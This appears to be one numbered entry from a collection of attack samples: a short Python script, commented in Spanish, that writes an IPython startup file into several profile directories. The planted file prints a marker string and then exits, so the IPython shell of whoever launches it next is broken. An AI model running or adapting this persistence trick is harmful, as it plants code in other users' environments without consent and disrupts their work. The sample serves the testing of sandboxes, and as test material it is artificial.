# attack: un perfil de IPython que cambia el shell de quien venga después
# entry: 20

import os
for base in ("/tmp/ipython", os.path.expanduser("~/.ipython"), os.environ.get("IPYTHONDIR", "")):
    try:
        os.makedirs(f"{base}/profile_default/startup", exist_ok=True)
        with open(f"{base}/profile_default/startup/00.py", "w") as file:
            file.write("print('HUELLA-PERFIL')\nraise SystemExit\n")
    except OSError as error:
        print(error)
